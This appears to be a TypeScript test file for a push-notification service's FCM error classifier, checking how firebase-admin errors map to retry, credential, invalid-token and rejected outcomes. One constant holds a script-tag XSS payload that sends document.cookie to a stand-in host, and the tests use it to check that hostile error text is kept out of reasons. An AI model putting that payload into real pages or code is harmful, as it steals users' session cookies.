import t from 'tap'
import { fcmOutcome } from '../../../src/senders/fcm/fcm-outcome.js'

const HOSTILE = `<script>fetch('//evil.example/?'+document.cookie)</script>${'x'.repeat(2048)}`
const error = (code: unknown, message: unknown) => Object.assign(new Error(String(message)), { code, message })

t.test("reasons are firebase-admin's code names or our own words; the message is the detail", async (t) => {
  const cases: Array<[unknown, string, string]> = [
    [error('messaging/registration-token-not-registered', 'Requested entity was not found.'), 'invalid-token', 'registration-token-not-registered'],
    [error('messaging/invalid-registration-token', 'Invalid registration token'), 'invalid-token', 'invalid-registration-token'],
    [error('messaging/invalid-argument', 'The registration token is not a valid FCM registration token'), 'invalid-token', 'invalid-registration-token'],
    [error('messaging/invalid-argument', 'Request contains an invalid argument.'), 'rejected', 'invalid-argument'],
    [error('messaging/third-party-auth-error', 'Auth error from APNS or Web Push Service'), 'credentials', 'third-party-auth-error'],
    [error('messaging/message-rate-exceeded', 'Sending limit exceeded'), 'retry', 'message-rate-exceeded'],
    [error('app/network-timeout', 'Error while making request: timeout of 10000ms exceeded.'), 'retry', 'app/network-timeout'],
    // Google's trouble, never the device's or the message's: retried, never final.
    [error('messaging/internal-error', 'Internal error encountered.'), 'retry', 'internal-error'],
    [error('messaging/server-unavailable', 'The service is currently unavailable.'), 'retry', 'server-unavailable'],
    [error('messaging/unknown-error', 'An unknown server error was returned. Raw server response: "<html>502</html>"'), 'retry', 'unknown-error'],
    [error('app/network-error', 'Error while making request: connect ECONNREFUSED'), 'retry', 'app/network-error'],
    // A send that waited for its slot while its app was deleted (new credentials, shutdown): never sent.
    [error('app/app-deleted', 'Firebase app named "beacon-1-1-0" has already been deleted.'), 'retry', 'app/app-deleted'],
    // The project's or the account's trouble (SENDER_ID_MISMATCH, a non-JSON 401/403): not the device's.
    [error('messaging/mismatched-credential', 'SenderId mismatch'), 'credentials', 'mismatched-credential'],
    [error('messaging/authentication-error', 'An error occurred when trying to authenticate to the FCM servers.'), 'credentials', 'authentication-error'],
    [error(undefined, 'read ECONNRESET'), 'retry', 'ConnectionError'],
    [error(undefined, 'socket hang up'), 'retry', 'ConnectionError'],
    [error(undefined, 'something nobody expected'), 'rejected', 'UnknownError'],
    [error('<b>not/a code</b>', 'x'), 'rejected', 'UnknownError'],
    [error(`messaging/${'a'.repeat(65)}`, 'x'), 'rejected', 'UnknownError']
  ]
  for (const [failure, kind, reason] of cases) {
    // The answer as the transport notes it: FCM names a dead token in its FcmError detail.
    const answer = reason === 'registration-token-not-registered' ? { fcmErrorCode: 'UNREGISTERED' } : {}
    t.match(fcmOutcome(failure, answer), { kind, reason, detail: (failure as Error).message }, reason)
  }
  t.match(fcmOutcome(error('messaging/message-rate-exceeded', 'x'), { retryAfterSeconds: 30 }), { kind: 'retry', retryAfterMs: 30_000 })
})

// firebase-admin maps Google's plain NOT_FOUND (a wrong URL, a proxy, a project that does not
// exist) to the code of FCM's UNREGISTERED: taken at its word, every device sent to was deleted.
t.test('not-registered deletes the device only when the answer\'s FcmError detail said UNREGISTERED', async (t) => {
  const notFound = error('messaging/registration-token-not-registered', 'The requested URL was not found on this server.')
  t.same(fcmOutcome(notFound, { fcmErrorCode: 'UNREGISTERED' }), { kind: 'invalid-token', reason: 'registration-token-not-registered', detail: notFound.message })
  for (const answer of [{}, { fcmErrorCode: 'NOT_FOUND' }, { fcmErrorCode: 'INVALID_ARGUMENT' }, undefined]) {
    t.same(fcmOutcome(notFound, answer), { kind: 'rejected', reason: 'NotFound', detail: notFound.message }, JSON.stringify(answer) ?? 'no answer noted')
  }
})

t.test('token endpoint failures: our code from the credential, configuration ones fail the application, the rest retry', async (t) => {
  // As firebase-admin wraps what oauth-credential.ts rejects with.
  const wrapped = (ours: string) => error('app/invalid-credential',
    `Credential implementation provided to initializeApp() via the "credential" property failed to fetch a valid Google OAuth2 access token with the following error: "${ours}".`)
  t.match(fcmOutcome(wrapped('TokenEndpointRefused (HTTP 400)')), { kind: 'credentials', reason: 'TokenEndpointRefused (HTTP 400)' })
  t.match(fcmOutcome(wrapped('TokenUriForbidden')), { kind: 'credentials', reason: 'TokenUriForbidden' })
  t.match(fcmOutcome(wrapped('DestinationForbidden')), { kind: 'credentials', reason: 'DestinationForbidden' })
  t.match(fcmOutcome(wrapped('TokenEndpointUnreachable')), { kind: 'retry', reason: 'TokenEndpointUnreachable' })
  t.match(fcmOutcome(wrapped('TokenEndpointError (HTTP 503)')), { kind: 'retry', reason: 'TokenEndpointError (HTTP 503)' })
  t.match(fcmOutcome(error('app/invalid-credential', 'Invalid access token generated')), { kind: 'retry', reason: 'TokenEndpointError' })
})

t.test('hostile text in an error never becomes the reason', async (t) => {
  for (const code of ['messaging/invalid-argument', 'messaging/unknown-error', 'app/invalid-credential', undefined, HOSTILE]) {
    const outcome = fcmOutcome(error(code, HOSTILE))
    if (outcome.kind === 'sent') throw new Error('not a failure')
    t.notOk(outcome.reason.includes('<') || outcome.reason.includes('evil') || outcome.reason.length > 64, `${String(code).slice(0, 30)}: ${outcome.reason}`)
    t.equal(outcome.detail, HOSTILE, 'kept whole for the log')
  }
})
